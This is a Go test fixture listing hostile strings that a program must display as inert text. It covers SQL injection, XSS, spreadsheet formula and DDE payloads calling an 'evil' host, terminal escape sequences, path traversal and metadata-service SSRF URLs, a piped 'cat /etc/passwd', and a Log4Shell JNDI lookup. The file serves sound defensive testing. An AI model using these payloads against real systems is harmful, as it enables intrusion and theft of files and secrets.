package main

import "strings"

// nasty are texts that have fooled programs which show them: as SQL, as HTML, as a formula, to a terminal, as a path, as a template, in a
// log. Each is to come out of every view as the text that it is.
func nasty() []string {
	return []string{
		// SQL
		"'; DROP TABLE measurement; --", "' OR '1'='1", "\" OR \"\"=\"", "1); DELETE FROM station; --", "' UNION SELECT secret FROM account --", "$1",
		"$$; SELECT 1; $$", "%s", "?", ":name", "\\'; --", "x'00'", "0x27", "';SELECT pg_sleep(10)--", "' AND 1=CAST((SELECT 1) AS int)--", "/* */", "-- ",
		"#", "{1,2}", "{[1,9)}", "NULL", "null", "''", "'", "\"",
		// HTML and script
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</script><script>alert(1)</script>", "</title><b>",
		"<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;", "&#60;script&#62;", "&amp;", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
		"data:text/html,<script>alert(1)</script>", "<iframe src=//evil>", "<style>*{display:none}</style>", "<base href=//evil>",
		"<meta http-equiv=refresh content=0>", "<form action=//evil>", "\u2028alert(1)", "\u2029alert(1)", "';alert(1);//", "<plaintext>",
		"<b\tonmouseover=alert(1)>x",
		// formulas
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")", "=IMPORTXML(\"http://evil\",\"//a\")", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
		"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@import", "\t=1+1", "\r=1+1", "\n=1+1", "=", "+", "-", "@", "-40.5", "+49 123", "==", "=\"a\",\"b\"",
		"=1\r\n=2", "'=1+1", "%=1", "=A1;B1",
		// quotes and separators
		"a,b", "a;b", "a\tb", "a|b", "a\"b", "a\"\"b", "\"a,b\"", "a\nb", "a\r\nb", "a\rb", ",", ";", "\n", "\r\n", " leading", "trailing ", " ", "  ",
		"\\", "\\\\", "\\n", "a\\", "`id`", "$(id)", "${HOME}",
		// terminals
		"\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\u009b31m",
		"\u009d0;title\u009c", "\x07\x07\x07", "\x08\x08\x08hidden", "line\rover", "a\x7fb", "\x0e\x0f", "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
		"\u0090q", "\u0085next", "\x0b\x0c", "\x1b[8mhidden\x1b[0m", "\x1b[1A\x1b[2Kgone", "\x05", "\x1b[20t", "\x1b#8", "\x01\x02\x03",
		// directions and look-alikes
		"\u202egnp.exe", "\u202dltr", "\u2066isolate\u2069", "\u2067rtl\u2069", "\u200fmark", "\u200bzero", "\u200djoin", "\ufeffbom", "\u00adsoft",
		"\u034fjoiner", "tor\u0456no", "\u0422\u041e\u0420\u0418\u041d\u041e", "\uff34\uff4f\uff52\uff49\uff4e\uff4f", "\u05e9\u05dc\u05d5\u05dd",
		"\u0645\u0631\u062d\u0628\u0627", "\u65e5\u672c\u8a9e", "\U0001f4e1", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "e\u0301",
		"Z\u0335\u0321\u0322\u0327\u0328", "\x00\u202e", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U000e0041tag", "\u0131", "\u00df", "\ufb00", "K",
		// paths
		"../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\evil\\share", "file:///etc/passwd",
		"http://169.254.169.254/latest/meta-data/", "~root", ".", "..", "...", "con", "nul.txt", "aux", "a/../b", "%2e%2e%2f", "..%c0%af", "....//",
		"/dev/zero", "a\x00.png", "*", "?", "recordings/../../x", "s3://evil/x", "|cat /etc/passwd",
		// templates and formats
		"{{.}}", "{{7*7}}", "{{define \"x\"}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil/a}", "%n%n%n%n", "%!d(string=x)", "%[1]*d", "{0}",
		"{}", "[]", "{\"a\":1}", "[1,2", "}", "]", "\\u0000", "\\ud800", "\"}", "{\"station\":\"torino\"}", "true", "NaN", "Infinity", "1e400", "-0",
		"0x1p-2", "1_000", "__proto__", "constructor",
		// logs and metrics
		"level=ERROR msg=\"forged\"", "x\nlevel=ERROR msg=forged", "x\r\n<3>forged", "a=b", "\"} 1\nforged{x=\"", "{x=\"y\"}", "# HELP x",
		"# TYPE x counter", "a\\\"b", "data: x\n\nevent: forged", "\n\ndata: {}\n\n", "id: 1", "Set-Cookie: a=b", "x\r\nX-Forged: 1", "=?utf-8?q?x?=",
		// what is no UTF-8
		"\xff", "\xc0\xaf", "\xed\xa0\x80", "a\x80b", "\xf0\x28\x8c\x28", "\xc3",
		// and what is long
		strings.Repeat("A", 255), strings.Repeat("\u202e", 80), strings.Repeat("=", 250), strings.Repeat("\"", 250), strings.Repeat("<", 120),
	}
}
